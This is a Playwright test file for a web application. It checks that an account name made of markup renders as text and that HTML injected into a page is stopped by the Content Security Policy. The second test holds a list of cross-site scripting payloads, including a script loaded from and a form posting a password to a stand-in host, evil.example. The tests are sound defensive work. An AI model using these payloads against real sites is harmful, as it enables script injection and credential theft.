import type { Page } from "@playwright/test";
import { expect, test } from "../support/test";

/** A name that is no text to whoever takes it for markup: account names have no spaces, and need none. */
const MARKUP = "<img/src=x/onerror=window.hit=1>";

/** Whether something ran that nobody of ours wrote. */
const isHit = (page: Page) => page.evaluate(() => "hit" in window);

test.describe("an account whose name is markup", () => {
  test.use({ expectedErrors: /status of 404/ });

  const password = "four words nobody expects";

  test.beforeEach(({ server }) => server.addAccount(MARKUP, password));

  test("is text in toasts, and wherever else it stands", async ({ visitor, page }) => {
    await visitor.open("/login");
    await visitor.signIn(MARKUP, password);
    await expect(visitor.toast(`Welcome back, ${MARKUP}.`)).toBeVisible();
    await expect(page.locator(".menu__account")).toHaveText(MARKUP);
    for (const path of ["/", "/account/sessions", "/account/activity", "/account/password", "/nowhere"]) {
      await page.goto(visitor.server.origin + path);
      await visitor.live();
      await expect(page.locator(".menu__account")).toHaveText(MARKUP);
      await expect(page.locator("main img, header img, .toasts img")).toHaveCount(0);
    }
    expect(await isHit(page)).toBe(false);
  });

  test.describe("in another tab", () => {
    test("is text in what this one says of it", async ({ visitor, page, context, server }) => {
      await visitor.open("/login");
      await visitor.signIn();
      const other = await context.newPage();
      await other.goto(`${server.origin}/account/sessions`);
      await other.locator("html[data-hydrated=true]").waitFor();
      await other.getByRole("button", { name: "Sign out" }).click();
      await other.getByLabel("Username").fill(MARKUP);
      await other.getByLabel("Password").fill(password);
      await other.getByRole("button", { name: "Sign in" }).click();
      await expect(other.locator(".menu__account")).toHaveText(MARKUP);
      await page.bringToFront();
      await page.evaluate(() => dispatchEvent(new Event("focus")));
      await expect(visitor.toast(`You are now signed in as ${MARKUP}, in another tab.`)).toBeVisible();
      await expect(page.locator(".toasts img")).toHaveCount(0);
      expect(await isHit(page)).toBe(false);
    });
  });

  test("is text in an answer that is no page", async ({ visitor, page, server }) => {
    await visitor.open("/login");
    await visitor.signIn(MARKUP, password);
    const answer = await page.goto(`${server.origin}/api/me`);
    expect(await answer?.json()).toEqual({ account: MARKUP });
    expect(await page.evaluate(() => [document.contentType, document.images.length])).toEqual(["application/json", 0]);
    expect(await isHit(page)).toBe(false);
  });
});

test.describe("what somebody put into a page", () => {
  test.use({ expectedErrors: /Content Security Policy|Refused to|MIME type/ });

  /** In the document as it arrives, before any script of ours runs. */
  const INJECTED = `
    <script>window.hit = 1</script>
    <script nonce="guessed">window.hit = 2</script>
    <script src="data:text/javascript,window.hit=3"></script>
    <script src="https://evil.example/x.js"></script>
    <script src="/api/me"></script>
    <img src="x:" onerror="window.hit = 4">
    <svg onload="window.hit = 5"></svg>
    <body onpageshow="window.hit = 6">
    <iframe srcdoc="<script>parent.hit = 7</script>"></iframe>
    <object data="data:text/html,<script>parent.hit=8</script>"></object>
    <base href="https://evil.example/">
    <a id="link" href="javascript:window.hit=9">link</a>
    <form id="form" action="https://evil.example/"><input name="password" value="secret"></form>
    <style>body { display: none }</style>`;

  test("does not run, looks like nothing, and sends nothing anywhere", async ({ visitor, page, server, context }) => {
    await visitor.open("/login");
    await visitor.signIn();
    const elsewhere: string[] = [];
    // Whatever got out would run.
    await context.route(/^https:\/\/evil\.example/, async (route) => {
      elsewhere.push(route.request().url());
      await route.fulfill({ contentType: "text/javascript", body: "window.hit = 12" });
    });
    await page.route(`${server.origin}/`, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace("</body>", `${INJECTED}</body>`);
      expect(body).toContain("window.hit");
      await route.fulfill({ response, body });
    });
    await page.addInitScript(() => {
      const held = new Set<string>();
      Object.assign(window, { held });
      document.addEventListener("securitypolicyviolation", (event) => held.add(event.effectiveDirective));
    });
    await page.goto(server.origin);
    await page.evaluate(() => {
      document.querySelector<HTMLElement>("#link")?.click();
      document.querySelector<HTMLFormElement>("#form")?.submit();
      const late = document.createElement("div");
      late.innerHTML = "<img src='x:' onerror='window.hit = 10'>";
      document.body.append(late);
      const script = document.createElement("script");
      script.textContent = "window.hit = 11";
      document.body.append(script);
    });
    const held = () => page.evaluate(() => [...(window as unknown as { held: Set<string> }).held]);
    for (const directive of ["script-src-elem", "script-src-attr", "form-action", "base-uri", "style-src-elem"]) {
      await expect.poll(held, directive).toContain(directive);
    }
    expect(await isHit(page)).toBe(false);
    expect(await page.evaluate(() => [document.baseURI, getComputedStyle(document.body).display])).toEqual([`${server.origin}/`, "block"]);
    expect(elsewhere).toEqual([]);
    expect(page.url()).toBe(`${server.origin}/`);
  });
});
